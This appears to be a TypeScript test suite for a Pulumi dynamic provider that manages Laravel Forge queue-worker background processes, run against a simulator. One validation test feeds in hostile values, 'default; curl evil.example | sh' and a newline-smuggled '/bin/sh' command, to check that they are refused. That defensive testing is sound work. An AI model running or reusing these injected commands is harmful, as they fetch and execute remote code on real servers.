import type { Simulator } from "../../../../tools/simulator";
import { SERVER_PATH, call, createSite } from "../../../support/simulator";
import type { CapturedRegistration } from "../../../support/capture-provider";
import { type DynamicHost, UNKNOWN, hostCallFailure as failureOf } from "../../../support/dynamic-host";
import { createFailingAsync, type ForgeProviderHost, startForgeProviderHost } from "../../../support/provider-host";
import { NO_CHANGES, expectPreviewWithoutForge, replacing } from "../../../support/diff-outcomes";
import { FORGE_WORKER_INPUTS } from "../../../support/samples";

const PROCESSES_ROUTE = "/orgs/{organization}/servers/{server}/background-processes";
const PROCESS_ROUTE = `${PROCESSES_ROUTE}/{backgroundProcess}`;
const USER = FORGE_WORKER_INPUTS.isolatedUser;
const DIRECTORY = `/home/${USER}/pr-12.preview.test/current`;
const NAME = "forge-previews-pr-12-worker";
const COMMAND =
  `/usr/bin/setpriv --reuid=${USER} --regid=${USER} --init-groups --reset-env -- /usr/bin/php8.4 ${DIRECTORY}/artisan ` +
  `queue:work redis --name=${NAME} --queue=default --tries=3 --timeout=60 --sleep=3`;

type Props = Record<string, unknown>;

describe("ForgeWorker through the real dynamic-provider host", () => {
  let fixture: ForgeProviderHost;
  let sim: Simulator;
  let host: DynamicHost;
  let registration: CapturedRegistration;
  let urn: string;
  let inputs: Props;
  let siteId: number;
  let otherSiteId: number;

  const withInputs = (changes: Props): Props => ({ ...inputs, ...changes });
  const processes = () => sim.state().backgroundProcesses.filter((process) => process.status !== "removing");
  const routesSince = (from: number): string[] =>
    sim.requests.slice(from).map((r) => `${r.method} ${r.route ?? r.path}${r.query["filter[site_id]"] ? " site" : ""}`);
  const rawProcess = async (body: Props): Promise<number> => {
    const response = await call(sim, "POST", `${SERVER_PATH}/background-processes`, {
      user: "root",
      processes: 1,
      ...body,
    });
    if (response.status !== 202) throw new Error(`seeding a process failed: ${response.status} ${response.text}`);
    return Number(response.json.data.id);
  };
  const removeAll = async (): Promise<void> => {
    for (const process of sim.state().backgroundProcesses) {
      await call(sim, "DELETE", `${SERVER_PATH}/background-processes/${process.id}`);
    }
    await new Promise((resolve) => setTimeout(resolve, 5));
    expect(sim.state().backgroundProcesses.filter((process) => process.status !== "removing")).toStrictEqual([]);
  };

  beforeAll(async () => {
    fixture = await startForgeProviderHost({
      prepare: async (started) => {
        siteId = Number(await createSite(started, "pr-12.preview.test", { is_isolated: true, isolated_user: USER }));
        otherSiteId = Number(
          await createSite(started, "pr-13.preview.test", { is_isolated: true, isolated_user: "shop-pr13" }),
        );
      },
      register: async () => {
        const { ForgeWorker } = await import("../../../../providers/forge-worker");
        return new ForgeWorker("worker", { ...FORGE_WORKER_INPUTS, siteId, name: NAME, directory: DIRECTORY });
      },
      check: true,
    });
    ({ sim, host, registration, urn, inputs } = fixture);
  });

  afterAll(() => fixture?.close());

  it("registers as forge:Worker with its arguments as plain, non-secret inputs and nothing else", () => {
    const { __provider: _provider, ...registered } = registration.inputs;

    expect(registration.type).toBe("pulumi-nodejs:dynamic/forge:Worker");
    expect(Object.keys(registered).sort()).toStrictEqual([
      "connection",
      "directory",
      "isolatedUser",
      "name",
      "phpVersion",
      "processes",
      "queues",
      "serverId",
      "siteId",
      "sleepSeconds",
      "timeoutSeconds",
      "tries",
    ]);
  });

  describe("check and diff, which also run during preview", () => {
    it("refuses hostile command parts, naming each field, without calling Forge", async () => {
      const before = sim.requests.length;

      const checked = await host.check(
        urn,
        {},
        withInputs({
          isolatedUser: "root",
          connection: "redis\ncommand=/bin/sh",
          queues: "default; curl evil.example | sh",
          directory: "/home/shop-pr12/site dir",
          tries: 0,
        }),
      );

      expect(checked.failures.map((failure) => failure.property)).toStrictEqual([
        "isolatedUser",
        "directory",
        "connection",
        "queues",
        "tries",
      ]);
      expect(sim.requests.length).toBe(before);
    });

    it("passes unknown inputs through and plans a delete-first replacement without calling Forge", async () => {
      const olds = { ...inputs, processId: 41, command: COMMAND, user: "root", status: "running" };

      await expectPreviewWithoutForge(fixture, "41", olds, withInputs({ siteId: UNKNOWN, directory: UNKNOWN }), {
        diff: replacing(["siteId", "directory"], "delete-first"),
        inputs: { siteId: UNKNOWN, directory: UNKNOWN },
      });
    });
  });

  describe("lifecycle of one worker", () => {
    let id: string;
    let outs: Props;

    it("creates a root background process whose command drops to the site user, and waits for it to run", async () => {
      const from = sim.requests.length;

      ({ id, outs } = await host.create(urn, inputs));

      const [process] = processes();
      expect(processes()).toHaveLength(1);
      expect(process).toMatchObject({
        id: Number(id),
        siteId,
        name: NAME,
        command: COMMAND,
        user: "root",
        directory: DIRECTORY,
        processes: 1,
        startsecs: 1,
        stopwaitsecs: 90,
        stopsignal: "SIGTERM",
        status: "running",
      });
      expect(outs).toStrictEqual({
        ...inputs,
        processId: Number(id),
        command: COMMAND,
        user: "root",
        status: "running",
      });
      expect(routesSince(from)).toStrictEqual([
        `GET ${PROCESSES_ROUTE} site`,
        `GET ${PROCESSES_ROUTE}`,
        `POST ${PROCESSES_ROUTE}`,
        `GET ${PROCESS_ROUTE}`,
      ]);
    });

    it("reports no changes when the inputs match the state", async () => {
      expect(await host.diff(urn, id, outs, inputs)).toStrictEqual(NO_CHANGES);
    });

    it("replaces the process, old one first, when a setting changes", async () => {
      expect(await host.diff(urn, id, outs, withInputs({ tries: 5, processes: 2 }))).toStrictEqual(
        replacing(["processes", "tries"], "delete-first"),
      );
    });

    it("replaces a process whose command was edited outside Pulumi once refresh has seen it", async () => {
      const drifted = { ...outs, command: COMMAND.replace("--tries=3", "--tries=9") };

      expect(await host.diff(urn, id, drifted, inputs)).toStrictEqual(replacing(["command"], "delete-first"));
    });

    it("resumes waiting on the same process when the engine retries an unfinished create, without creating another", async () => {
      const from = sim.requests.length;

      const updated = await host.update(urn, id, { ...outs, status: "installing" }, inputs);

      expect(updated.outs).toStrictEqual(outs);
      expect(routesSince(from)).toStrictEqual([`GET ${PROCESS_ROUTE}`, `GET ${PROCESS_ROUTE}`]);
    });

    it("carries out a replacement as delete then create, leaving only the new process", async () => {
      const changed = withInputs({ tries: 5 });

      await host.delete(urn, id, outs);
      const replaced = await host.create(urn, changed);

      expect(processes()).toHaveLength(1);
      expect(processes()[0]).toMatchObject({
        id: Number(replaced.id),
        command: COMMAND.replace("--tries=3", "--tries=5"),
      });
      expect(replaced.id).not.toBe(id);
      ({ id, outs } = replaced);
      inputs = changed;
    });

    it("drops the worker from state on refresh once it was deleted outside Pulumi", async () => {
      await call(sim, "DELETE", `${SERVER_PATH}/background-processes/${id}`);
      await new Promise((resolve) => setTimeout(resolve, 5));

      expect((await host.read(urn, id, outs)).id).toBe("");
    });

    it("treats deleting an already deleted process as done, without sending a delete", async () => {
      const from = sim.requests.length;

      await expect(host.delete(urn, id, outs)).resolves.toBeUndefined();

      expect(routesSince(from)).toStrictEqual([`GET ${PROCESS_ROUTE}`]);
    });

    afterAll(() => {
      inputs = { ...inputs, tries: 3 };
    });
  });

  describe("ownership", () => {
    afterEach(removeAll);

    it("adopts a running process on this site that carries the worker's name and command, without creating one", async () => {
      const existing = await rawProcess({ name: NAME, command: COMMAND, site_id: siteId, directory: DIRECTORY });
      const from = sim.requests.length;

      const { id } = await host.create(urn, inputs);

      expect(id).toBe(String(existing));
      expect(processes().map((process) => process.id)).toStrictEqual([existing]);
      expect(routesSince(from)).not.toContain(`POST ${PROCESSES_ROUTE}`);
    });

    it("removes a stale process of this worker on this site and creates the wanted one", async () => {
      const stale = await rawProcess({
        name: NAME,
        command: COMMAND.replace("--tries=3", "--tries=1"),
        site_id: siteId,
      });
      const unrelated = await rawProcess({ name: "scheduler", command: "php artisan schedule:work", site_id: siteId });

      const { id } = await host.create(urn, inputs);

      expect(
        processes()
          .map((process) => process.id)
          .sort(),
      ).toStrictEqual([unrelated, Number(id)].sort());
      expect(processes().find((process) => process.id === stale)).toBeUndefined();
    });

    it("refuses when another site runs a process with this worker's name, and leaves it alone", async () => {
      const foreign = await rawProcess({ name: NAME, command: COMMAND, site_id: otherSiteId });
      const from = sim.requests.length;

      const error = await failureOf(host.create(urn, inputs));

      expect(error.details).toContain(`Background process ${foreign} on server 1 runs a worker named \`${NAME}\``);
      expect(error.details).toContain(`does not belong to site ${siteId}`);
      expect(error.initFailure).toBeUndefined();
      expect(routesSince(from).filter((route) => !route.startsWith("GET"))).toStrictEqual([]);
      expect(processes().map((process) => process.id)).toStrictEqual([foreign]);
    });

    it("refuses to delete a process that is not listed under this site, and leaves it running", async () => {
      const foreign = await rawProcess({ name: NAME, command: COMMAND, site_id: otherSiteId });
      const from = sim.requests.length;

      const error = await failureOf(
        host.delete(urn, String(foreign), {
          ...inputs,
          processId: foreign,
          command: COMMAND,
          user: "root",
          status: "running",
        }),
      );

      expect(error.details).toContain(
        `Background process ${foreign} on server 1 is not worker \`${NAME}\` of site ${siteId}`,
      );
      expect(routesSince(from).filter((route) => route.startsWith("DELETE"))).toStrictEqual([]);
      expect(processes()).toMatchObject([{ id: foreign, status: "running" }]);
    });

    it("refuses to delete a process on this site that carries another worker's name", async () => {
      const other = await rawProcess({
        name: "other",
        command: COMMAND.replace(NAME, "forge-previews-pr-99-worker"),
        site_id: siteId,
      });

      const error = await failureOf(
        host.delete(urn, String(other), {
          ...inputs,
          processId: other,
          command: COMMAND,
          user: "root",
          status: "running",
        }),
      );

      expect(error.details).toContain("is not worker");
      expect(processes().map((process) => process.id)).toStrictEqual([other]);
    });
  });

  describe("a worker Supervisor cannot keep running", () => {
    it("is waiting for the code, not failed, while the site has no finished deployment: the next diff keeps it", async () => {
      sim.inject({ method: "POST", path: PROCESSES_ROUTE, asyncOutcome: "failed" });

      const { id, outs } = await host.create(urn, inputs);

      const [process] = processes();
      expect(process).toMatchObject({ id: Number(id), status: "fatal" });
      expect(outs).toMatchObject({ processId: process.id, status: "awaiting-deployment" });
      expect(host.logs()).toContain(`forge-worker: ${NAME} waits for the site's first deployment`);
      expect(await host.diff(urn, id, outs, inputs)).toStrictEqual(NO_CHANGES);

      await host.delete(urn, id, outs);
      expect(processes()).toStrictEqual([]);
    });

    it("once the code is deployed: starts it once more, then fails naming the status, keeps the id in state, is replaced by the next diff and can be deleted", async () => {
      expect((await call(sim, "POST", `${SERVER_PATH}/sites/${siteId}/deployments`)).status).toBe(202);
      sim.inject({ method: "POST", path: `${PROCESS_ROUTE}/actions`, asyncOutcome: "failed" });
      const from = sim.requests.length;

      const { error, id, state } = await createFailingAsync(fixture, PROCESSES_ROUTE, inputs);

      const [process] = processes();
      expect(process).toMatchObject({ id: Number(id), status: "fatal" });
      expect(routesSince(from).filter((route) => route.startsWith("POST"))).toStrictEqual([
        `POST ${PROCESSES_ROUTE}`,
        `POST ${PROCESS_ROUTE}/actions`,
      ]);
      expect(error.details).toContain(
        `Worker \`${NAME}\` (background process ${process.id} on server 1) ended with status \`fatal\``,
      );
      expect(state).toMatchObject({ processId: process.id, status: "fatal", command: COMMAND, user: "root" });
      expect(await host.diff(urn, id, state, inputs)).toStrictEqual(replacing(["status"], "delete-first"));

      await host.delete(urn, id, state);
      expect(processes()).toStrictEqual([]);
    });
  });

  it("keeps the Forge token out of the host's logs", async () => {
    await host.waitForLog(/forge-worker: created background process/);

    expect(host.logs()).not.toContain(fixture.token);
  });
});
